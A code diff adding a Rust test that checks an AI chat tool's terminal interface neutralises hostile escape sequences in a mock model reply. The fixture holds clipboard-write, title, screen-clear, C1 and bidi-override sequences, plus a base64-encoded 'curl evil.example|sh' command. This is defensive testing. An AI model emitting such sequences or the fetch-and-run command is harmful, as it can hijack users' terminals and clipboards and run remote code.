@@ -206,6 +206,33 @@ async fn scrollback_keeps_the_conversation_and_the_resume_picker_reopens_it() {
     assert!(!id.is_empty());
 }
 
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_models_escape_sequences_reach_neither_the_live_view_nor_the_scrollback() {
+    let Some(bin) = dsh_bin() else { return };
+    let (dir, project, home) = dirs("pty-escapes");
+    // OSC 52 (clipboard), OSC 0 and 2 (title), a screen clear, C1 CSI and OSC, a bidi override.
+    let hostile = "Done \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{7}\u{1b}]0;owned\u{7}\u{1b}]2;owned\u{1b}\\\u{1b}[2J\u{9b}2J\u{9d}0;owned\u{9c}\u{202e}tail-marker";
+    let server = ChatServer::start(vec![Reply::text(hostile)]).await.unwrap();
+    let env = env(&server, &dir, &home);
+    let (live, raw, after_exit) = tokio::task::spawn_blocking(move || {
+        let mut pty = Pty::spawn(&bin, &["say it"], &project, &env);
+        let live = pty.wait_for("tail-marker");
+        quit(&mut pty);
+        (live, pty.raw(), pty.contents())
+    })
+    .await
+    .unwrap();
+    let raw = String::from_utf8_lossy(&raw);
+    for obeyed in ["\u{1b}]", "\u{9b}", "\u{9d}", "\u{9c}", "\u{202e}"] {
+        assert!(
+            !raw.contains(obeyed),
+            "{obeyed:?} reached the terminal: {raw:?}"
+        );
+    }
+    assert!(live.contains("\\u001b]52;c;"), "{live}");
+    assert!(after_exit.contains("\\u001b]52;c;"), "{after_exit}");
+}
+
 /// A 1×1 red PNG.
 const RED_PNG: &[u8] = &[
     0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
